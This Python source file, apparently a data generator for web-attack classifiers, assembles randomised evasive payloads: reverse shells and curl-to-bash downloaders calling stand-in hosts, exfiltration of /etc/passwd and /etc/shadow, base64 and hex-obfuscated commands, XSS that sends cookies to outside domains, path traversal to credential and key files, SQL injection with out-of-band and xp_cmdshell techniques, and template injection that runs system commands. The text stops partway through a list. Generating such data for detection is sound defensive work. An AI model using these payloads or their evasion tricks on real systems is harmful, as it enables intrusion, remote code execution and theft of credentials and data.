"""Payloads of the common classes in the spellings that are meant to slip by: split words, computed names, other quotes, escapes."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable
from typing import Final
from urllib.parse import quote

from classifiers.corpus.web_attack_tables import COLUMNS, COMMANDS, EVENTS, FILES_UNIX, FILES_WINDOWS, JS, TABLES, TAGS
from classifiers.corpus.web_draw import Draw, word

Spelling = Callable[[str, Draw], str]


def _plain(text: str, rng: Draw) -> str:
    return text.replace("W", word(rng))


# ---- commands


def _quoted(text: str, rng: Draw) -> str:
    """Empty quotes, backslashes or variables within the words of a command."""
    mark = rng.choice(("''", '""', "\\", "$@", "${x}", "$()", "``", "^", "$*", "${IFS%??}"))
    return "".join(f"{c}{mark}" if c.isalpha() and rng.random() < 0.4 else c for c in text)


def _globbed(text: str, rng: Draw) -> str:
    first, _, rest = text.partition(" ")
    hidden = "".join("?" if rng.random() < 0.5 else c for c in first.split("/")[-1])
    return f"/{rng.choice(('bin', 'usr/bin', '???', 'b?n', '*'))}/{hidden} {rest}".strip()


def _carried(text: str, rng: Draw) -> str:
    code, n = base64.b64encode(text.encode()).decode(), rng.randint(0, 9)
    digits = text.encode().hex()
    return rng.choice(
        (f"echo {code}|base64 -d|sh", f"{{echo,{code}}}|{{base64,-d}}|{{bash,-i}}", f"bash -c {{echo,{code}}}|{{base64,-d}}|bash", f"base64 -d<<<{code}|bash", f"$(echo {digits}|xxd -r -p)", f"printf '{''.join(f'{chr(92)}x{b:02x}' for b in text.encode())}'|sh", f"$(printf '{''.join(f'{chr(92)}{b:o}' for b in text.encode())}')", f"echo {text[::-1]}|rev|sh", f"powershell -e {code}", f"powershell -nop -w hidden -enc {code}",
         f"python3 -c \"exec(__import__('base64').b64decode('{code}'))\"", f"perl -e 'system(pack(\"H*\",\"{digits}\"))'", f"php -r 'system(base64_decode(\"{code}\"));'", f"a={text[:2]};b={text[2:4]};$a$b", f"eval $(echo {code}|base64 --decode)", f"$'{''.join(f'{chr(92)}x{b:02x}' for b in text.encode())}'", f"cmd /v /c \"set x={text}&call %x%\"", f"${{HOME:0:1}}bin${{HOME:0:1}}{text}", f"{text.split(' ', maxsplit=1)[0]}<{text.rsplit(' ', maxsplit=1)[-1]}", f"{text.split(' ', maxsplit=1)[0]}$IFS${n}{text.rsplit(' ', maxsplit=1)[-1]}",
         f"{{{','.join(text.split(' '))}}}", f"{text.replace(' ', '${IFS}')}", f"{text.replace(' ', '%09')}", f"{text.replace('/', '${PATH:0:1}')}", f"{text.replace('/', '$(echo${IFS}Lw==|base64${IFS}-d)')}", f"IFS=,;`cat<<<{text.replace(' ', ',')}`", f"timeout {n} {text}", f"nohup {text} &", f"sudo {text}", f"env {text}", f"xargs -I{{}} {text}", f"find . -exec {text} \\;", f"sh -c '{text}'", f"/bin/bash -c \"{text}\"", f"(sleep {n};{text})&")
    )  # fmt: skip


_SHELLS: Final = (
    "bash -i >& /dev/tcp/H/P 0>&1", "nc H P -e /bin/bash", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc H P >/tmp/f", "0<&196;exec 196<>/dev/tcp/H/P; sh <&196 >&196 2>&196", "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"H\",P));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", "php -r '$s=fsockopen(\"H\",P);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "perl -e 'use Socket;$i=\"H\";$p=P;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");'",
    "ruby -rsocket -e'f=TCPSocket.open(\"H\",P).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'", "curl -s http://H:P/W|bash", "wget -qO- http://H/W|sh", "curl H:P -d @/etc/passwd", "curl -F f=@/etc/shadow http://H/", "wget --post-file=/etc/passwd H", "nslookup `whoami`.H", "ping -c 1 $(whoami).H", "dig @H $(id|base64).W", "certutil -urlcache -split -f http://H/W.exe W.exe&W.exe", "powershell -c \"iex(iwr http://H/W.ps1)\"", "mshta http://H/W.hta", "regsvr32 /s /u /i:http://H/W.sct scrobj.dll", "socat exec:'bash -li',pty tcp:H:P", "lua -e \"os.execute('id')\"", "busybox nc H P -e sh", "echo W>/var/www/html/W.php",
)  # fmt: skip


def shell(rng: Draw) -> str:
    host = rng.choice((f"{word(rng)}.example", f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"))  # fmt: skip
    text = _plain(rng.choice((*COMMANDS, *COMMANDS, *_SHELLS)), rng).replace("H", host).replace("P", str(rng.choice((80, 443, 4444, 9001, 1337))))  # fmt: skip
    text = rng.choice((_plain, _quoted, _globbed, _carried, _carried))(text, rng)
    left, right = rng.choice(((";", ""), (";", ";"), ("|", ""), ("||", ""), ("&&", ""), ("&", "&"), ("`", "`"), ("$(", ")"), ("\n", ""), ("%0a", ""), ("%26%26", ""), ("%7c", ""), ("%3b", ""), ("';", "#"), ('";', "#"), ("'|", "|'"), ("<(", ")"), (">(", ")"), ("${", "}"), ("\r\n", ""), ("", ""), ("1;", ""), ("x||", "||x"), ("x&", "&"), ("|(", ")"), ("!", ""), ("\"$(", ")\""), ("'`", "`'")))  # fmt: skip
    if not left and len(text) < 14:
        left = ";"
    before = rng.choice(
        (
            "",
            "",
            "",
            word(rng),
            "127.0.0.1",
            "8.8.8.8 ",
            f"{word(rng)}.jpg",
            f"--{word(rng)}=",
            f"a@{word(rng)}.example",
        )
    )
    return f"{before}{left}{rng.choice(('', ' '))}{text}{right}"


def option(rng: Draw) -> str:
    """Arguments that make a harmless program run another or read a file."""
    w, command, file = word(rng), _plain(rng.choice(COMMANDS), rng), rng.choice(FILES_UNIX)
    return rng.choice(
        (f"-oProxyCommand={command}", f"-oProxyCommand=`{command}`", f"--upload-pack=`{command}`", f"--upload-pack='{command}'", f"--output={file}", f"-o /var/www/{w}.php", f"--checkpoint-action=exec={command}", f"--checkpoint=1 --checkpoint-action=exec=sh {w}.sh", f"-exec {command} ;", f"--use-compress-program='{command}'", f"--to-command={command}", f"-T {file}", f"--config={file}", f"-K {file}", f"@{file}", f"--post-file={file}", f"--load-extension={w}.so", "-d allow_url_include=1 -d auto_prepend_file=php://input",
         f"--pre={command}", f"ext::sh -c '{command}'", f"-X {w} -OQueueDirectory=/tmp -X/var/www/{w}.php", f"--open-files-in-pager={command}", "-c protocol.ext.allow=always", f"--renderer-cmd-prefix={command}", f"--gpu-launcher={command}", f"() {{ :; }}; {command}", f"() {{ {w};}};echo; {command}", f"() {{ _; }} >_[$($())] {{ {command}; }}", f"-s --no-check-certificate http://{w}.example -O /tmp/{w}")
    )  # fmt: skip


# ---- pages


def _fuck(rng: Draw) -> str:
    """Expressions of brackets and signs alone."""
    parts = (
        "[]",
        "![]",
        "!![]",
        "+[]",
        "[![]]",
        "(![]+[])",
        "(!![]+[])",
        "[+[]]",
        "[+!+[]]",
        "([][[]]+[])",
        "(+[![]]+[])",
        "[!+[]+!+[]]",
        "[+!![]]",
        "[!+[]+!+[]+!+[]]",
    )
    return "[][" + "+".join(f"{rng.choice(parts)}{rng.choice(('', '[+[]]', '[+!+[]]', '[!+[]+!+[]]'))}" for _ in range(rng.randint(4, 20))) + "]" + rng.choice(("", "()", "()()"))  # fmt: skip


def _hidden(call: str, rng: Draw) -> str:
    """The same script, its letters escaped or its names computed."""
    if rng.random() < 0.25:
        return call
    codes = ",".join(str(ord(c)) for c in call[:40])
    half = len(call) // 2
    escape = rng.choice(("\\u{:04x}", "\\x{:02x}", "&#{};", "&#x{:x};", "&#0000{}", "\\u{{{:x}}}", "\\{:o}"))
    some = "".join(escape.format(ord(c)) if c.isalpha() and rng.random() < rng.choice((0.2, 1.0)) else c for c in call)
    name = call.split("(", maxsplit=1)[0]
    return rng.choice(
        (some, some, some, _fuck(rng), f"eval(String.fromCharCode({codes}))", f"eval('{call[:half]}'+'{call[half:]}')", f"eval(atob`{base64.b64encode(call.encode()).decode()}`)", f"eval(unescape('{quote(call, safe='')}'))", f"window['{name[:2]}'+'{name[2:]}'](1)", f"top[/{name[:2]}/.source+/{name[2:]}/.source](1)", f"self[`{name[:3]}${{'{name[3:]}'}}`]()", f"({name})(1)", f"(0,{name})(1)", f"[1].find({name})", f"[1].map({name})", f"Reflect.apply({name},this,[1])", f"{name}?.(1)", f"{name}`1`", f"new Function`{call}`()", f"setTimeout`{call}`",
         f"Set.constructor`{call}```", f"onerror={name};throw 1", f"{{onerror={name}}}throw 1", f"import('data:text/javascript,{call}')", f"location=`javas`+`cript:{call}`", f"[][`filter`][`constructor`](`{call}`)()", f"with(document)body.appendChild(createElement('script')).src='//{word(rng)}.example'", f"a=document.createElement('script');a.src='//{word(rng)}.example';document.body.append(a)", f"document.querySelector('form').action='//{word(rng)}.example'", f"open(name='{word(rng)}')", f"x=new XMLHttpRequest;x.open('GET','//{word(rng)}.example/'+document.cookie);x.send()", f"navigator.credentials.get().then({name})", f"top.location='//{word(rng)}.example?'+escape(document.cookie)")
    )  # fmt: skip


def page(rng: Draw) -> str:
    call = _hidden(_plain(rng.choice(JS), rng).replace("N", str(rng.randint(0, 99))), rng)
    w, v, event, tag = word(rng), word(rng, 1, 4), rng.choice(EVENTS), rng.choice(TAGS)
    event = rng.choice((event, event, event.upper(), "".join(rng.choice((c, c.upper())) for c in event)))
    gap = rng.choice((" ", "/", "\n", "\t", "%0a", "%0d", "\x0c", "/**/", "//", "/ /", "&#10;", "+"))
    q = rng.choice(("", '"', "'", "`"))
    scheme = rng.choice(("javascript:", "JavaScript:", "java\nscript:", "jav&#x09;ascript:", "&#106;avascript:", "\x01javascript:", "javascript&colon;", "javascript&#58;", "java%0ascript:", "javascript://%0a", "javascript:/*--></title>*/", "vbscript:", "livescript:", "data:text/html,<script>", "feed:javascript:", "view-source:javascript:", "javascript:%61", "j a v a s c r i p t :"))  # fmt: skip
    before = rng.choice(("", "", '"', "'", '">', "'>", "-->", "</title>", "</style>", "</script>", "]]>", "</textarea>", f"{w}", f'{w}"', f"{w}'", "</noscript>", "<!--", "%22%3E", "&quot;>", "\\\">", "`>", "</select>", "*/", "}}"))  # fmt: skip
    return before + rng.choice(
        (f"<{tag}{gap}{event}={q}{call}{q}>", f"<{tag}{gap}{v}={q}{w}{q}{gap}{event}{rng.choice((' = ', '=', '%3d', '&equals;'))}{q}{call}{q}", f" {event}={q}{call}{q} {v}={q}", f" {event}={q}{call}{q} autofocus tabindex=1 ", f" style={q}animation-name:{w}{q} onanimationstart={q}{call}{q}", f" accesskey=x onclick={q}{call}{q}", f"<a href={q}{scheme}{call}{q}>{w}</a>", f"<iframe src={q}{scheme}{call}{q}>", f"<form action={q}{scheme}{call}{q}><input type=submit>", f"<button formaction={q}{scheme}{call}{q}>{w}", f"<object data={q}{scheme}{call}{q}>", f"<embed src={q}{scheme}{call}{q}>", f"<math href={q}{scheme}{call}{q}>{w}", f"<svg><a xlink:href={q}{scheme}{call}{q}><text>{w}", f"<base href={q}{scheme}/{q}>", f"<meta http-equiv=refresh content={q}0;url={scheme}{call}{q}>",
         f"<svg><script>{call}</script>", f"<svg><script href=data:,{call} />", f"<svg><use href=data:image/svg+xml,<svg id='x'><image href='1' onerror='{call}' /></svg>#x />", f"<svg><set attributeName=onmouseover to={call}>", f"<svg><animate xlink:href=#{v} attributeName=href values={scheme}{call} /><a id={v}>", f"<svg><foreignObject><{tag} {event}={call}>", f"<math><mtext><table><mglyph><style><img src onerror={call}>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>", f"<noscript><p title=\"</noscript><img src=x onerror={call}>\">", f"<style><img src=\"</style><img src=x onerror={call}//\">", f"<template><script>{call}</script></template>", f"<iframe srcdoc=\"&lt;script&gt;{call}&lt;/script&gt;\">", f"<iframe srcdoc=<svg/onload={call}>>", f"<xss id=x {event}={call} tabindex=1>#x", f"<script>{call}<!--", f"<script\x0c>{call}</script\n>", f"<script/{v}>{call}</script>", f"<scr\0ipt>{call}</script>", f"<script x>{call}</script y>", f"<<script>{call};//<</script>", f"<script src=data:,{call}></script>", f"<script type=module>{call}</script>", f"<script>/*{w}*/{call}/*{v}*/</script>", f"<link rel=import href=data:text/html,<script>{call}</script>", f"<input type=image src=x onerror={call}>", f"<input autofocus onfocus={call}>", f"<details open ontoggle={call}>", f"<video><source onerror={call}>", f"<portal src={q}{scheme}{call}{q}>", f"<dialog open onclose={call}><form method=dialog><button>", f"<{w}-{v} contenteditable {event}={call}>", f"<marquee onstart={call}>{w}", f"<img src=x:{v} onerror={call} {w}",
         f"';{call}//", f"\";{call}//", f"'-{call}-'", f"\"+{call}+\"", f"`-{call}-`", f"\\';{call}//", f"\\\");{call}//", f"'}};{call};{{'", f"]);{call};([", f"${{{call}}}", f"';</script><script>{call}</script>", f"0;{call}", f"1}};{call};{{", f"*/{call}/*", f"\u2028{call}", f"{{{{constructor.constructor('{call}')()}}}}", f"{{{{$on.constructor('{call}')()}}}}", f"{{{{_c.constructor('{call}')()}}}}", f"{{{{[].pop.constructor('{call}')()}}}}", f"{{{{{v}='{w}'.sub.call.call(({{}})['constructor'].getOwnPropertyDescriptor(0,'{w}').value,0,'{call}')}}}}", f"<{tag} v-on:click={q}{call}{q}>", f"<{tag} ng-{event[2:].lower()}={q}$event.view.{call}{q}>", f"<{tag} x-init={q}{call}{q}>", f"<{tag} @click={q}$event.view.{call}{q}>", f"<div v-html=\"''.constructor.constructor('{call}')()\">",
         f"{scheme}{call}", f"{scheme}{call}//", f"<style>*{{x:expression({call})}}</style>", f"<style>@import '//{w}.example/{v}.css';</style>", f"<div style={q}x:expression({call}){q}>", f"<div style=background:url({scheme}{call})>", f"<style>input[name={w}][value^={v[0]}]{{background:url(//{w}.example/{v})}}</style>", f"<img src=//{w}.example/?", f"<img src='//{w}.example/log?", f"<meta http-equiv=refresh content='0;//{w}.example/?", f"<form id={w}><input name=attributes>", f"<a id={w}><a id={w} name={v} href=//{w}.example>", _fuck(rng), f"<!--[if gte IE 4]><script>{call}</script><![endif]-->", f"<?xml version=1.0?><?xml-stylesheet href={q}{scheme}{call}{q}?>", f"+ADw-script+AD4-{call}+ADw-+AC8-script+AD4-", f"\\u003cscript\\u003e{call}\\u003c/script\\u003e", f"%253Cscript%253E{call}%253C%252Fscript%253E", f"＜script＞{call}＜/script＞", f"&lt;img src=x onerror={call}&gt;", f"¼script¾{call}¼/script¾", f"%uff1cscript%uff1e{call}")
    )  # fmt: skip


# ---- files


def path(rng: Draw) -> str:
    """Files of the server by their names, by the ways that lead to them and by what wraps them."""
    w, n = word(rng), rng.randint(1, 9)
    windows = rng.random() < 0.3
    file = rng.choice(FILES_WINDOWS if windows else FILES_UNIX).lstrip("/")
    more = rng.choice(
        (f"proc/self/fd/{n}", "proc/self/maps", "proc/1/cmdline", "proc/self/cwd/index.php", "proc/sched_debug", "proc/mounts", "proc/net/arp", "var/log/nginx/error.log", "var/log/vsftpd.log", "var/mail/root", "var/spool/cron/crontabs/root", "etc/apache2/sites-enabled/000-default.conf", "etc/php/7.4/apache2/php.ini", "etc/ldap/ldap.conf", "etc/samba/smb.conf", "etc/sudoers", "root/.bash_history", f"home/{w}/.ssh/authorized_keys", "root/.kube/config", "opt/tomcat/conf/tomcat-users.xml", f"tmp/sess_{w}", f"var/lib/php/sessions/sess_{w}", ".git/HEAD", ".svn/entries", ".DS_Store", ".bash_history", "config/database.yml", "app/etc/local.xml", "storage/logs/laravel.log", "appsettings.json", "META-INF/context.xml", "WEB-INF/classes/application.properties", "id_rsa", "server.key", "backup.sql", "dev/random", "sys/class/net/eth0/address", "windows/system32/inetsrv/config/applicationhost.config", "windows/panther/unattend.xml", "users/administrator/ntuser.dat", "xampp/apache/logs/access.log")
    )  # fmt: skip
    file = rng.choice((file, more))
    step = rng.choice(("../", "../", "..\\", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%5c", "%252e%252e%252f", "....//", "....\\/", "..;/", "..%00/", "..%0d/", "..%c0%af", "..%ef%bc%8f", "%c0%2e%c0%2e/", "/..", "/../", "/%2e%2e", "\\..\\", ".../...//", "..//", "..\\\\", ".%252e/", "%u002e%u002e/", "..%u2216", "‥/", "..／", "0x2e0x2e/", "%%32%65%%32%65/", "..././", "\\\\..", "..%01/", "./../"))  # fmt: skip
    steps = step * rng.randint(2, 12)
    end = rng.choice(("", "", "", "", "%00", "%00.jpg", "\0.png", "?", "%23", "::$DATA", "/.", "%20", "....", ";.css", "%2500.html", "\\", "/" + "./" * rng.randint(3, 20), "#"))  # fmt: skip
    start = rng.choice(("", "", "", "/", f"{w}/", f"/{w}/", f"/var/www/{w}/", f"{w}.php?f=", "file=", "./", ".//", "///", f"C:\\{w}\\", f"{w}/../", f"/{w}/..;/", f"/static/{w}/", "/assets../", "/%5c../", "/cgi-bin/.", "//", "/@fs/"))  # fmt: skip
    wrapped = rng.choice(("php://filter/convert.base64-encode/resource={}", "php://filter/read=string.rot13/resource={}", "php://filter/convert.iconv.UTF8.UTF7|convert.base64-decode/resource={}", "PHP://filter/zlib.deflate/resource={}", "file:///{}", "file://localhost/{}", "zip://{}%23" + w, "phar://{}/" + w, "compress.zlib:///{}", "glob:///{}", "data:text/plain,<?php include('{}');?>", "expect://cat /{}", "\\\\" + w + ".example\\{}", "\\\\?\\C:\\{}", "\\\\127.0.0.1\\c$\\{}", "~/{}", "/{}", "/./{}", "//{}", "/{}/.", "/ {}"))  # fmt: skip
    return rng.choice((f"{start}{steps}{file}{end}", f"{start}{steps}{file}{end}", f"{start}{steps}{file}", f"{steps}{w}{rng.choice(('', '.txt', '.ini', '.php', '.conf'))}{end}", wrapped.format(file) + rng.choice(("", end)), quote(f"{start}{steps}{file}", safe="")))  # fmt: skip


# ---- queries


def _text_of(value: str, rng: Draw) -> str:
    """A literal of SQL that is no literal on its face."""
    codes = [ord(c) for c in value]
    return rng.choice((f"0x{value.encode().hex()}", f"char({','.join(map(str, codes))})", "||".join(f"chr({c})" for c in codes), "+".join(f"char({c})" for c in codes), f"concat({','.join(f'char({c})' for c in codes)})", f"unhex('{value.encode().hex()}')", f"x'{value.encode().hex()}'", f"b'{codes[0]:b}'", f"'{value}'", f"_utf8'{value}'", f"n'{value}'", f"$${value}$$", f"reverse('{value[::-1]}')", f"lower('{value.upper()}')", f"from_base64('{base64.b64encode(value.encode()).decode()}')", f"'{value[:1]}' '{value[1:]}'", f"'{value[:1]}'||'{value[1:]}'", f"q'[{value}]'"))  # fmt: skip


def query(rng: Draw) -> str:
    """Dialects, errors that tell, channels to the outside, and conditions without an equals sign."""
    w, n, m = word(rng, 1, 6), rng.randint(0, 999), rng.randint(1, 20)
    table, column = rng.choice(TABLES), rng.choice(COLUMNS)
    literal = _text_of(w, rng)
    read = rng.choice((f"select {column} from {table} limit 1", f"select group_concat({column}) from {table}", "select @@version", "select user()", f"select {column} from {table} where {column}={literal}", "select version()", "select current_user", f"select top 1 {column} from {table}", f"select/**/{column}/**/from/**/{table}", f"select(group_concat({column}))from({table})", f"select {column} from {table} offset {m} rows fetch next 1 rows only", "select db_name()", f"select string_agg({column},',') from {table}", f"select listagg({column},',') within group (order by 1) from {table}", "table users limit 1", f"values row({n})", "select banner from v$version"))  # fmt: skip
    start = rng.choice(("'", "'", '"', "')", "1", str(n), f"{w}'", "1)", "'))", "", f"-{n}", "\\'", "`", "1'", "%'", "%bf%27", "';", f"{n};", '")', "]", "%df'", "ʼ", "＇", "'/**/", "1e0", ".1"))  # fmt: skip
    rest = rng.choice(("", "-- -", "--", "#", "/*", ";%00", "-- " + w, "'", "--+", ";--", "%23", " -- ", " limit 1#", "\\", "`", "--%0a", "/*!*/", "and '1'='1"))  # fmt: skip
    true = rng.choice((f"{n} is not null", f"{n} in ({n},{m})", f"{literal} like {literal}", f"{n} between {n} and {n + m}", f"{n}<{n + m}", f"not {n}>{n + m}", f"exists({read})", f"({read}) is not null", "true", f"{n}^{n + 1}", f"!({n}<>{n})", f"{n}<=>{n}", f"strcmp({literal},{literal})=0", f"length(({read}))>{m}", f"ascii(substr(({read}),{m},1))between 48 and 122", f"({read})regexp'^{w[0]}'", f"({read}) like binary 0x{w.encode().hex()}25", f"mid(({read}),{m},1)in('{w[0]}')", f"ord(right(({read}),{m}))&{m}", f"{n}%2={n % 2}", f"isnull(nullif({n},{n}))", f"coalesce({n},{m})", f"({n},{m})=({n},{m})", "1 sounds like 1", f"instr(({read}),'{w}')", "json_valid('[]')", f"least({n},{n})", f"find_in_set({n},{n})", f"case {n} when {n} then 1 else 0 end", f"iif({n}={n},1,0)", f"if({n},{n},0)", f"elt({n % 5},{n})", "@@datadir", "~0", f"pi()>{m % 3}"))  # fmt: skip
    joint = rng.choice((" or ", " and ", "||", "&&", " xor ", " | ", "/**/or/**/", "%0aor%0a", " OR\t", "%20||%20", "or(", " div ", "*", "^", "=", "-", "+", ">", " having ", " or not ", "%09and%09", "/*!50000or*/", " oR ", "||!", ") or (", "'or'", "/*x*/and/*y*/", " rlike ", " regexp ", " union "))  # fmt: skip
    close = ")" if joint.endswith("or(") else ""
    loud = rng.choice((f"extractvalue({n},concat(0x7e,({read})))", f"updatexml(null,concat(0x0a,({read})),null)", f"exp(~(select*from({read})a))", f"(select 1 from(select count(*),concat(({read}),floor(rand(0)*2))x from {table} group by x)a)", f"geometrycollection((select*from(select*from({read})a)b))", f"polygon((select*from({read})x))", f"gtid_subset(({read}),{n})", f"json_keys((select convert(({read}) using utf8)))", f"cast(({read}) as int)", f"convert(int,({read}))", f"({read})::int", f"ctxsys.drithsx.sn({n},({read}))", f"utl_inaddr.get_host_name(({read}))", f"to_char(dbms_xmlgen.getxml('{read}'))", f"xmltype('<:'||({read})||'>')", f"ordsys.ord_dicom.getmappingxpath(({read}),{n},1)", f"cast(chr(126)||({read})||chr(126) as numeric)", f"query_to_xml('{read}',true,true,'')", f"file_name(({read}))", f"1/(select case when {true} then 0 else 1 end)"))  # fmt: skip
    outside = rng.choice((f"load_file(concat('\\\\\\\\',({read}),'.{w}.example\\\\a'))", f"utl_http.request('http://{w}.example/'||({read}))", f"httpuritype('http://{w}.example/'||({read})).getclob()", f"extractvalue(xmltype('<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://{w}.example/\">%x;]>'),'/l')", f"dblink_connect('host={w}.example user=a password=b')", f"xp_dirtree '//{w}.example/a'", f"openrowset('sqloledb','{w}.example';'sa';'p','{read}')", f"fn_xe_file_target_read_file('c:\\*.xel','\\\\'||({read})||'.{w}.example\\a.xem',null,null)", f"dbms_ldap.init(({read})||'.{w}.example',80)", "lo_import('/etc/passwd')", f"pg_read_file('/etc/passwd',0,{n})", f"load_extension('{w}.so')", f"sys_exec('{rng.choice(COMMANDS)}')", "loadfile('/etc/passwd')", f"load data local infile '/etc/passwd' into table {w}", f"into dumpfile '/var/www/{w}.php'", f"into outfile '/tmp/{w}' lines terminated by 0x{w.encode().hex()}"))  # fmt: skip
    slow = rng.choice((f"sleep({m})", f"(select*from(select(sleep({m})))a)", f"if({true},sleep({m}),0)", f"(select pg_sleep({m}))", f"benchmark({m}00000,sha1({literal}))", f"case when {true} then pg_sleep({m}) end", f"waitfor delay '0:0:{m}'", f"dbms_pipe.receive_message(({literal}),{m})", f"randomblob({m}00000000)", f"(select count(*) from {table} a,{table} b,{table} c)", f"elt({true},sleep({m}))", f"rlike sleep({m})", f"get_lock('{w}',{m})", f"regexp_like(rpad('a',{m}00000,'a'),'(a*)*b')", f"(select {m} from pg_sleep({m}))", f"heavy({m})"))  # fmt: skip
    stacked = rng.choice((f"exec({_text_of('xp_cmdshell', rng)})", f"declare @{w} varchar(8000) set @{w}=0x{read.encode().hex()[:40]} exec(@{w})", "exec sp_configure 'xp_cmdshell',1;reconfigure", f"execute immediate {literal}", f"prepare {w} from {literal};execute {w}", f"set @{w}={literal};prepare a from @{w}", f"handler {table} open as {w};handler {w} read first", f"do sleep({m})", f"begin dbms_lock.sleep({m}); end;", f"create function {w} returns integer soname '{w}.so'", f"copy (select '') to program '{rng.choice(COMMANDS)}'", f"attach database '/var/www/{w}.php' as {w}", f"rename table {table} to {w}", "show tables", f"if {true} waitfor delay '0:0:{m}'", f"insert into {table}({column}) select {literal}", f"update {table} set {column}={literal} where {true}", f"create user {w} identified by {literal}", f"bulk insert {w} from 'c:\\boot.ini'", "use master", f"backup database master to disk='\\\\{w}.example\\a'", f"alter user {w} with password {literal}", f"replace into {table} values({n},{literal})", f"drop/**/table/**/{table}", f"call sys.{w}({n})", f"merge into {table} using dual on (1=1) when matched then update set {column}={literal}"))  # fmt: skip
    return rng.choice(
        (f"{start}{joint}{true}{close}{rest}", f"{start}{joint}{true}{close}{rest}", f"{start} and {loud}{rest}", f"{start},{loud}{rest}", f"{start}||{outside}{rest}", f"{start} and {outside}{rest}", f"{start}{rng.choice((' and ', ' or ', '-', '+', '||', ',', '^', ' xor ', '*'))}{slow}{rest}", f"{start};{stacked}{rest}", f"{start} union{rng.choice((' ', '/**/', '%0a', '(', ' all ', '/*!*/', '+', ' distinct '))}{read},{literal}{rest}", f"{start} order by (case when {true} then {column} else {n} end){rest}", f"{start} group by {column} having {true}{rest}", f"{start} limit {m},1 into @{w}{rest}", f"{start} procedure analyse({loud},1){rest}", f"(select {n} where {true})", f"{n} and ({read})={literal}", f"{slow}", f"{loud}", f"{start} natural join ({read}) {w}{rest}", f"{start}{joint}({read})={literal}{rest}",
         f"{w}'{rng.choice(('-', '^', '+', '*', '|', '&', '%', '<<', '=', '<', '||', '<>', ' div ', ' like ', ' is not '))}'{rng.choice(('', w, '0'))}", f"'{rng.choice(('=', '-', '+', '^', '||', '&', '*'))}{rng.choice((str(n), 'false', '0', 'true', chr(39), '(0)'))}{rest}", f"{w}'{rest if len(rest) > 1 else '--'}", f"{column}={literal} or {true}", f"{n}/*!{n:05}union*//*!select*/{m},{literal}", f"{start}%0bunion%0bselect%0b{column}%0bfrom%0b{table}{rest}", f"{{`{w}`/*!({read})}}*/", f"{start} and {{d({read})}}{rest}", f"{start}.{n}or {{fn {slow}}}{rest}")
    )  # fmt: skip


# ---- templates


_ENGINES: Final = (
    "{{config.__class__.__init__.__globals__['os'].popen('CC').read()}}", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('CC')|attr('read')()}}", "{{()|attr('__class__')|attr('__base__')|attr('__subclasses__')()}}", "{% set x=cycler.__init__.__globals__.os.popen('CC').read() %}{{x}}", "{%print(lipsum|attr('__globals__'))['os']['popen']('CC')['read']()%}", "{{''['__class__']['__mro__'][N]['__subclasses__']()[N]}}", "{% include '/etc/passwd' %}", "{{get_user_file('/etc/passwd')}}", "{% debug %}", "{{settings.SECRET_KEY}}", "{{messages.storages.0.signer.key}}", "{% load log %}{% get_admin_log N as W %}", "{{WW.__init__.__globals__.sys.modules.os.popen('CC')}}", "{{x.__init__.__builtins__.exec('CC')}}",
    "{{_self.env.setCache('ftp://WW.example')}}{{_self.env.loadTemplate('WW')}}", "{{['id','']|sort('system')}}", "{{['CC']|reduce('system')}}", "{{{'CC':'system'}|filter('call_user_func')}}", "{{app.request.query.filter(0,'CC',1024,{'options':'system'})}}", "{{'/etc/passwd'|file_excerpt(1,30)}}", "{{block('WW')}}{{include(template_from_string('WW'))}}", "{{source('/etc/passwd')}}", "{php}system('CC');{/php}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php system('CC');?>\",self::clearConfig())}", "{if system('CC')}{/if}", "{fetch file='/etc/passwd'}", "{$WW|system}", "{{'CC'|passthru}}", "{=system('CC')}", "@php(system('CC'))", "@{{system('CC')}}", "{!! system('CC') !!}",
    "<#assign WW='freemarker.template.utility.ObjectConstructor'?new()>${WW('java.lang.ProcessBuilder','CC').start()}", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(' ')}", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('CC')}", "${.data_model.WW}", "<#include '/etc/passwd'>", "#set($e='e')$e.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('CC')", "#include('/etc/passwd')", "$velocityCount $foreach.count #evaluate('WW')", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('CC').getInputStream()).next()}__::.x", "__${T(java.lang.Runtime).getRuntime().exec('CC')}__::WW", "[[${T(java.lang.Runtime).getRuntime().exec('CC')}]]", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('CC').getInputStream())}", "${#rt=@java.lang.Runtime@getRuntime(),#rt.exec('CC')}", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'CC'})).start()}", "#{request.getClass().getClassLoader()}", "${pageContext.request.getSession().setAttribute('WW',true)}", "${facesContext.externalContext.response}", "${''.getClass().forName('java.lang.Runtime').getMethods()[N].invoke(null)}", "#{T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}", "${applicationScope}", "${param.WW}${sessionScope}", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('CC') }}", "{% set cmd='CC' %}{{(1).TYPE.forName('java.lang.Runtime').methods[N].invoke(null,null).exec(cmd)}}", "@(T(java.lang.Runtime).getRuntime())", "new groovy.lang.GroovyShell().evaluate('WW')", "'CC'.execute().text", "${'CC'.execute().text}", "@groovy.transform.ASTTest(value={assert Runtime.getRuntime().exec('CC')})",
